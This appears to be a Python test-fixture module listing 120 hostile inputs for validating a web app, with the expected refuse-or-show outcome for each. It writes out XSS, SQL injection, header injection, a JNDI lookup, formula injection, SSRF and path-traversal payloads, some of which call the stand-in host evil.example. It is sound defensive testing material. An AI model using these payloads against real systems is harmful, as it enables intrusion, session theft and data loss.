"""The 120 hostile inputs (I1, I3, F1, F2): each has an id, a group and what is expected of us.

`refuse`: a sentence and a 4xx, nothing is kept. `show`: it may be kept, and is shown as what it is.
Where a value has to be built (a request, a file), `values` names recipes; the tests that need them
know how to build them.
"""

from typing import Literal, NamedTuple

Group = Literal["text", "script", "number", "http", "url", "file"]
Expected = Literal["refuse", "show"]


class Hostile(NamedTuple):
    """One input, or a few shapes of one idea."""

    id: int
    group: Group
    what: str
    values: tuple[str | bytes, ...]
    expected: Expected


def _text(number: int, what: str, *values: str | bytes, expected: Expected = "show") -> Hostile:
    return Hostile(number, "text", what, values, expected)


def _script(number: int, what: str, *values: str) -> Hostile:
    return Hostile(number, "script", what, values, "show")


def _number(number: int, what: str, *values: str, expected: Expected = "refuse") -> Hostile:
    return Hostile(number, "number", what, values, expected)


def _http(number: int, what: str, *recipes: str, expected: Expected = "refuse") -> Hostile:
    return Hostile(number, "http", what, recipes, expected)


def _url(number: int, what: str, *values: str) -> Hostile:
    return Hostile(number, "url", what, values, "refuse")


def _file(number: int, what: str, *recipes: str, expected: Expected = "refuse") -> Hostile:
    return Hostile(number, "file", what, recipes, expected)


MEBIBYTE = 1024 * 1024
FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
RIGHT_TO_LEFT = "\u202e"

TEXT = (
    _text(1, "empty", "", expected="refuse"),
    _text(2, "one space", " ", expected="refuse"),
    _text(3, "10,000 spaces", " " * 10_000, expected="refuse"),
    _text(4, "only ideographic spaces", "\u3000" * 5, expected="refuse"),
    _text(5, "zero-width spaces", "\u200b" * 50, expected="refuse"),
    _text(6, "joiner chains", FAMILY * 1_000),
    _text(7, "right-to-left override", f"report{RIGHT_TO_LEFT}fdp.exe"),
    _text(8, "isolate without its close", "\u2066left open"),
    _text(9, "byte order mark first", "\ufeffmarked"),
    _text(10, "NUL", "a\x00b", expected="refuse"),
    _text(11, "lone surrogate", '"\\ud800"', b"\xed\xa0\x80"),
    _text(12, "overlong UTF-8", b"\xc0\xae\xc0\xae/"),
    _text(13, "invalid UTF-8", b"\xff\xfe"),
    _text(14, "Shift_JIS bytes", "日本語の文".encode("shift_jis")),
    _text(15, "1,000 marks on one letter", "a" + "\u0301" * 1_000),
    _text(16, "Cyrillic look-alike", "\u0430dmin"),
    _text(17, "full-width look-alike", "ａｄｍｉｎ"),
    _text(18, "ligature", "o\ufb01ce", "\ufb01"),
    _text(19, "Turkish case", "\u0130@people.example", "\u0131@people.example"),
    _text(20, "sharp s", "stra\u00dfe@people.example", "strasse@people.example"),
    _text(21, "one character that becomes 18", "\ufdfa" * 50),
    _text(22, "1 MiB in one line", "x" * MEBIBYTE, expected="refuse"),
    _text(23, "1 MiB of newlines", "\n" * MEBIBYTE, expected="refuse"),
    _text(24, "a second header in a subject", "Hello\r\nBcc: x@evil.example"),
    _text(25, "a header in a name", "Hello\r\nSet-Cookie: sessionid=x"),
    _text(26, "template code", "{{7*7}}", "{% debug %}", "{{ ''.__class__ }}"),
    _text(27, "lookup", "${jndi:ldap://evil.example/x}"),
    _text(28, "SQL", "' OR 1=1--", "'; DROP TABLE accounts_account; --"),
    _text(29, "LIKE wildcards", "%", "_", "100%_"),
    _text(30, "backslash at the end", "end\\"),
    _text(31, "query breakers", "& | ! ( :*", "a:*&b<->(c", '"'),
    _text(32, "spreadsheet formula", '=HYPERLINK("http://evil.example")'),
    _text(33, "full-width formula", "＝cmd|' /C calc'!A0"),
    _text(34, "formula behind other signs", "@SUM(1)", "\t=1+1", "+1+1", "-1+1"),
    _text(35, "words of languages", "null", "None", "undefined", "NaN", "true"),
    _text(36, "terminal escape", "\x1b[2J\x1b[31mred"),
    _text(37, "a record inside a record", '"},"level":"x'),
    _text(38, "50,000 mentions", "@mention " * 50_000, expected="refuse"),
    _text(39, "10,000 open brackets", "<" * 10_000),
    _text(40, "deep quotes", ">" * 5_000),
)

SCRIPT = (
    _script(41, "script", "<script>alert(1)</script>"),
    _script(42, "image that fails", "<img src=x onerror=alert(1)>"),
    _script(43, "SVG", "<svg/onload=alert(1)>"),
    _script(44, "link that runs", '<a href="javascript:alert(1)">here</a>', "javascript:alert(1)"),
    _script(45, "split scheme", "java\tscript:alert(1)", "java\nscript:alert(1)"),
    _script(
        46, "document in an address", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
    ),
    _script(47, "htmx on load", '<div hx-get="/logout" hx-trigger="load">x</div>'),
    _script(48, "htmx event", '<div hx-on:htmx:load="alert(1)">x</div>'),
    _script(
        49,
        "htmx by data-",
        "<div data-hx-post=/logout data-hx-trigger=load hx-vals='js:{a:alert(1)}'>x</div>",
    ),
    _script(50, "refresh", '<meta http-equiv=refresh content="0;url=//evil.example/">'),
    _script(51, "another base", "<base href=//evil.example/>"),
    _script(
        52,
        "form that collects",
        "<form action=//evil.example><input name=csrfmiddlewaretoken><button>Go",
    ),
    _script(53, "out of a text box", "</textarea><script>alert(1)</script>"),
    _script(54, "out of a script", "</script><script>alert(1)</script>", "<!--<script>"),
    _script(55, "foreign style", "<style>@import'//evil.example/x.css'</style>"),
    _script(56, "frame", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    _script(
        57,
        "mutation",
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--><img src onerror=alert(1)>">',
    ),
    _script(58, "opener", "<a target=_blank href=//evil.example rel=opener>x</a>"),
    _script(
        59,
        "names that shadow",
        "<form id=htmx><input name=config></form><a name=config id=config>x</a>",
    ),
    _script(
        60,
        "a line of the stream",
        "x\n\nevent: logout\ndata: x",
        "x\r\n\r\nevent: refresh\r\ndata: x",
    ),
)

NUMBER = (
    _number(61, "negative", "-1"),
    _number(62, "zero", "0"),
    _number(63, "exponent", "1e9"),
    _number(64, "fraction", "1.5"),
    _number(65, "full-width digits", "１０００", expected="show"),
    _number(66, "grouped", "1,000", expected="show"),
    _number(67, "Arabic digit", "٣", expected="show"),
    _number(68, "hexadecimal", "0x10"),
    _number(69, "past 32 bits", "2147483648"),
    _number(70, "past 63 bits", "9223372036854775808"),
    _number(71, "400 digits", "9" * 400, "9" * 5_000),
    _number(72, "not a number", "NaN", "Infinity", "-Infinity"),
    _number(73, "signed", "+5", expected="show"),
    _number(74, "a day that is not", "2027-02-29"),
    _number(75, "the last day", "9999-12-31", "9999-12-31T23:59:59-12:00"),
    _number(76, "the first day", "0001-01-01"),
    _number(77, "past and far", "2001-01-01", "2126-01-01"),
    _number(78, "id of another's object", "other-id"),
    _number(
        79, "ids that are not", "../1", "1;2", "1%00", "{00000000-0000-0000-0000-000000000001}"
    ),
    _number(80, "same key twice", "id=1&id=2", '{"id": 1, "id": 2}', expected="show"),
)

HTTP = (
    _http(81, "JSON 100,000 deep", "json-deep"),
    _http(82, "JSON of a million keys", "json-wide"),
    _http(83, "array for object", "json-array"),
    _http(84, "JSON as text/plain", "json-as-text"),
    _http(85, "multipart without end", "multipart-open"),
    _http(86, "10,000 fields in multipart", "multipart-wide"),
    _http(87, "10,000 fields in the query", "query-wide"),
    _http(88, "lengths that lie", "length-short", "length-long", "length-and-chunked"),
    _http(89, "200 repeated headers", "headers-repeated", expected="show"),
    _http(90, "cookies", "cookie-16k", "session-unknown", "session-of-another", expected="show"),
    _http(91, "another method by header", "method-override", expected="show"),
    _http(92, "forged proxy headers", "forwarded-for", "forwarded-host", expected="show"),
    _http(93, "foreign host", "host-on-reset"),
    _http(94, "origin null", "origin-null"),
    _http(95, "forged htmx headers", "hx-request", "hx-current-url", "hx-prompt", expected="show"),
    _http(
        96,
        "extra fields",
        "is_staff",
        "role",
        "balance",
        "status",
        "client_id",
        "fee_rate",
        expected="show",
    ),
    _http(
        97,
        "order and filter",
        "order=password",
        "user__password__startswith=a",
        "_connector=OR 1=1",
        expected="show",
    ),
    _http(
        98,
        "next",
        "//evil.example",
        "/\\evil.example",
        "https:evil.example",
        "/%09/evil.example",
        "///evil@x",
        "\t//evil.example",
        expected="show",
    ),
    _http(
        99,
        "idempotency key",
        "key-empty",
        "key-256",
        "key-of-another",
        "key-other-body",
        "key-50-at-once",
    ),
    _http(
        100,
        "webhook",
        "wrong-secret",
        "old-stamp",
        "reformatted",
        "two-v1",
        "only-v0",
        "other-account",
        "unknown-type",
        "test-in-live",
    ),
)

URL = (
    _url(101, "this machine", "http://127.0.0.1", "http://0", "http://2130706433", "http://0177.1"),
    _url(
        102,
        "this machine by IPv6",
        "http://[::1]",
        "http://[::ffff:127.0.0.1]",
        "http://[64:ff9b::7f00:1]",
        "http://[2002:7f00:1::]",
    ),
    _url(
        103,
        "link-local metadata",
        "http://169.254.169.254/latest/meta-data/",
        "http://[fd00:ec2::254]/",
    ),
    _url(104, "public, then private", "rebinding"),
    _url(105, "redirect to private", "redirect-to-private"),
    _url(
        106,
        "other schemes and shapes",
        "file:///etc/passwd",
        "gopher://127.0.0.1/",
        "https://ok@127.0.0.1",
        "http://ok.example:22/",
        "endless-body",
        "gzip-bomb-body",
    ),
)

FILE = (
    _file(
        107,
        "names",
        "../../x",
        "..\\x",
        "CON",
        "a.pdf.exe",
        "x" * 300,
        f"a{RIGHT_TO_LEFT}fdp.exe",
        "a\x00b.pdf",
        ".hidden",
        'a"; filename="b\r\nSet-Cookie: x=1',
        expected="show",
    ),
    _file(108, "GIF and script", "gif-with-script"),
    _file(109, "PNG with an HTML tail", "png-with-html"),
    _file(110, "SVG", "svg-script", "svg-use", "svg-entity"),
    _file(
        111,
        "PDF",
        "pdf-javascript",
        "pdf-launch",
        "pdf-embedded",
        "pdf-count-loop",
        expected="show",
    ),
    _file(112, "document with macro", "docx-remote-template", "docx-macro", expected="show"),
    _file(
        113,
        "archive names",
        "zip-slip",
        "zip-absolute",
        "zip-symlink",
        "zip-device",
        "zip-duplicates",
    ),
    _file(
        114,
        "archive bombs",
        "zip-overlap",
        "zip-nested",
        "zip-million-empty",
        "zip-encrypted",
        "zip64-lie",
    ),
    _file(
        115,
        "image bombs",
        "png-65535",
        "gif-100000-frames",
        "tiff-loop",
        "webp-malformed",
        "heif-malformed",
    ),
    _file(116, "sizes", "empty", "one-byte", "at-limit", "past-limit"),
    _file(117, "types that lie", "html-as-png", "html-utf16", "html-utf7"),
    _file(118, "test virus", "eicar-plain", "eicar-in-zip", "eicar-in-docx"),
    _file(
        119,
        "CSV",
        "csv-formulas",
        "csv-million-columns",
        "csv-nul",
        "csv-mixed-encodings",
        expected="show",
    ),
    _file(120, "cut and raced", "cut-at-half", "two-of-one-name", "changed-after-scan"),
)

ALL = TEXT + SCRIPT + NUMBER + HTTP + URL + FILE

# More shapes of 41 to 60: what they need (a quote, a tag, a style, a widget) differs.
MORE_SCRIPT = (
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "` onload=alert(1) ",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</template><img src=x onerror=alert(1)>",
    "</noscript><img src=x onerror=alert(1)>",
    "</bdi></p></div></main><script>alert(1)</script>",
    "<sCrIpT sRc=//evil.example/x.js></ScRiPt>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img/src=//evil.example/pixel.gif>",
    '<img srcset="//evil.example/2x.png 2x">',
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/a.mp3 autoplay>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.svg>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/p>",
    "<div style=background:url(//evil.example/b.png)>x</div>",
    "<div style=position:fixed;inset:0;z-index:999>covered</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><use href=//evil.example/x.svg#a></svg>",
    "<x hx-trigger=load hx-get=//evil.example/ hx-swap=outerHTML>x</x>",
    "<x hx-on::after-request=alert(1) hx-disinherit=* hx-ext=x>x</x>",
    """<meta name=htmx-config content='{"allowEval":true,"selfRequestsOnly":false}'>""",
    "<meta name=enishi-stream content=//evil.example/stream>",
    "<img name=htmx src=x><img id=document name=cookie src=x>",
    "<a href='java&#x09;script:alert(1)'>here</a>",
    "<img src='//evil.example/?left-open=",
    "<x data-live=messages data-insert=alert(1) data-seen data-draft=x>x</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<%= alert(1) %> ${alert(1)} #{alert(1)} {{constructor.constructor('alert(1)')()}}",
    '#include "/etc/passwd" #eval("1+1") $x$ ```raw``` @label <label> *bold* #set page(fill: red)',
)
SCRIPTS = tuple(value for row in SCRIPT for value in row.values) + MORE_SCRIPT
